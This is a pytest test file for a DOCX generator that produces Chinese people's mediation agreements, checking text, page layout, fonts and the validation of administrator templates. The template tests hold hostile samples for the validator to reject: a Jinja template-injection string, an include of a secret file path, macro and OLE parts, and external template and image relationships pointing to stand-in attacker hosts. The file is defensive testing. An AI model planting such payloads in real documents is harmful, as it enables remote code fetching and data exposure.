"""DOCX output: re-read with python-docx, same text, A4, East-Asian fonts; admin templates."""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from docx.oxml.ns import qn

from mediation.documents import render, samples
from mediation.documents.docx import validate_docx_template
from mediation.errors import ValidationError
from tests.documents.helpers import FORMS


def _body_texts(document: object) -> Iterator[str]:
    """Paragraph and (de-duplicated) cell texts of the body, in document order."""
    body = document.element.body
    for child in body.iterchildren():
        if child.tag == qn("w:p"):
            text = docx.text.paragraph.Paragraph(child, document).text
            if text:
                yield text
        elif child.tag == qn("w:tbl"):
            table = docx.table.Table(child, document)
            seen: list[object] = []  # merged cells repeat; keep the elements to compare
            for row in table.rows:
                for cell in row.cells:
                    if any(cell._tc is tc for tc in seen):
                        continue
                    seen.append(cell._tc)
                    if cell.text:
                        yield cell.text


@pytest.mark.parametrize("form", FORMS)
def test_docx_rereads_with_the_same_text(rendered_docx: dict[str, Path], form: str) -> None:
    document = docx.Document(str(rendered_docx[form]))
    page = render.page_for(form, samples.context_for(form))
    expected = [line for text in page.texts() for line in text.split("\n") if line]
    got = [line for text in _body_texts(document) for line in text.split("\n") if line]
    assert got == expected


@pytest.mark.parametrize("form", FORMS)
def test_docx_is_a4_with_margins(rendered_docx: dict[str, Path], form: str) -> None:
    section = docx.Document(str(rendered_docx[form])).sections[0]
    assert round(section.page_width.mm) == 210 and round(section.page_height.mm) == 297
    assert round(section.left_margin.mm) == 28 and round(section.top_margin.mm) == 25


def test_every_run_has_an_east_asian_font(rendered_docx: dict[str, Path]) -> None:
    with zipfile.ZipFile(rendered_docx["people_agreement"]) as archive:
        parts = [
            n
            for n in archive.namelist()
            if re.fullmatch(r"word/(document|header\d*|footer\d*)\.xml", n)
        ]
        for name in parts:
            root = docx.oxml.parse_xml(archive.read(name))
            for run in root.iter(qn("w:r")):
                if run.find(qn("w:t")) is None:
                    continue
                fonts = run.find(qn("w:rPr")).find(qn("w:rFonts"))
                assert fonts is not None and fonts.get(qn("w:eastAsia")), name
    document = docx.Document(str(rendered_docx["people_agreement"]))
    fonts_of = {}
    for p in document.paragraphs:
        for r in p.runs:
            fonts_of[r.text] = r._element.rPr.rFonts.get(qn("w:eastAsia"))
    assert fonts_of["人民调解协议书"] == "黑体"
    assert "宋体" in fonts_of.values()


def test_ext_b_characters_get_the_ext_b_font(rendered_docx: dict[str, Path]) -> None:
    document = docx.Document(str(rendered_docx["people_agreement"]))
    cell = document.tables[0].cell(0, 2)
    runs = cell.paragraphs[0].runs
    assert "".join(r.text for r in runs) == "王𠮷祥"
    extb = [r for r in runs if r.text == "𠮷"]
    assert extb and extb[0]._element.rPr.rFonts.get(qn("w:eastAsia")) == "SimSun-ExtB"


def test_number_in_header_and_page_fields(rendered_docx: dict[str, Path]) -> None:
    document = docx.Document(str(rendered_docx["people_agreement"]))
    section = document.sections[0]
    assert section.different_first_page_header_footer
    assert section.header.paragraphs[0].text == "编号：（2026）X警校调协字第007号"
    xml = section.footer._element.xml
    assert "PAGE" in xml and "NUMPAGES" in xml


def test_docx_render_is_fast() -> None:
    ctx = samples.sample_context(long_facts=False)
    render.render_docx("people_agreement", ctx)
    start = time.perf_counter()
    render.render_docx("people_agreement", ctx)
    assert time.perf_counter() - start < 0.3


# ------------------------------------------------------------------ administrators' templates


def _template(*lines: str) -> bytes:
    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def _with_extra_part(data: bytes, name: str, content: bytes, rels: bytes | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            blob = src.read(info)
            if rels is not None and info.filename == "word/_rels/document.xml.rels":
                blob = blob.replace(b"</Relationships>", rels + b"</Relationships>")
            dst.writestr(info, blob)
        if name:
            dst.writestr(name, content)
    return out.getvalue()


def test_admin_template_renders() -> None:
    data = _template(
        "编号：{{ agreement_number }}",
        "{% for p in parties %}{{ p.role_label }}：{{ p.name }}；{% endfor %}",
        "金额：{% for a in amounts %}{{ a.value | rmb }}{% endfor %}",
        "A&B <{{ committee_name }}>",
    )
    validate_docx_template(data, "people_agreement")
    out = render.render_docx("people_agreement", samples.sample_context(), template=data)
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(out)).paragraphs)
    assert "编号：（2026）X警校调协字第007号" in text
    assert "申请人：王𠮷祥；被申请人：李䶮㛃；" in text
    assert "人民币贰仟伍佰元整（¥2,500.00）" in text
    assert "A&B <某某街道人民调解委员会>" in text


def test_admin_template_with_unknown_field_is_rejected_by_name() -> None:
    with pytest.raises(ValidationError) as err:
        validate_docx_template(
            _template("{{ agreement_number }}{{ party_nickname }}"), "people_agreement"
        )
    assert err.value.field == "party_nickname"
    with pytest.raises(ValidationError) as err:
        validate_docx_template(
            _template("{% for p in parties %}{{ p.wechat }}{% endfor %}"), "people_agreement"
        )
    assert err.value.field == "p.wechat"


def test_admin_template_reaching_python_internals_is_rejected() -> None:
    with pytest.raises(ValidationError) as err:
        validate_docx_template(_template("{{ ''.__class__.__mro__ }}"), "people_agreement")
    assert "不允许" in err.value.message
    with pytest.raises(ValidationError):
        validate_docx_template(_template("{% include 'c:/secret.txt' %}"), "people_agreement")


def test_unsafe_packages_are_rejected() -> None:
    good = _template("{{ agreement_number }}")
    with pytest.raises(ValidationError):
        validate_docx_template(
            _with_extra_part(good, "word/vbaProject.bin", b"\0" * 10), "people_agreement"
        )
    with pytest.raises(ValidationError):
        validate_docx_template(
            _with_extra_part(good, "word/embeddings/oleObject1.bin", b"x"), "people_agreement"
        )
    external = (
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    )
    with pytest.raises(ValidationError):
        validate_docx_template(_with_extra_part(good, "", b"", rels=external), "people_agreement")
    # The same written with single quotes, or a remote frame/image: still external.
    for rel in (
        (b"<Relationship Id='rIdY' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
         b"relationships/attachedTemplate' Target='file://attacker/share/t.dotx' TargetMode='External'/>"),
        (b'<Relationship Id="rIdZ" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         b'relationships/image" Target="http://evil.example/p.png" TargetMode = "external" />'),
        (b'<Relationship Id="rIdW" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         b'relationships/aFChunk" Target="chunk.html"/>'),
    ):
        with pytest.raises(ValidationError) as err:
            validate_docx_template(_with_extra_part(good, "", b"", rels=rel), "people_agreement")
        assert "外部资源" in err.value.message or "嵌入对象" in err.value.message
    # An external hyperlink is fine: it goes nowhere until clicked.
    link = (b'<Relationship Id="rIdL" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/hyperlink" Target="https://www.moj.gov.cn/" TargetMode="External"/>')
    validate_docx_template(_with_extra_part(good, "", b"", rels=link), "people_agreement")
    with pytest.raises(ValidationError):
        validate_docx_template(b"not a zip at all", "people_agreement")
    with pytest.raises(ValidationError):
        validate_docx_template(good, "no_such_form")
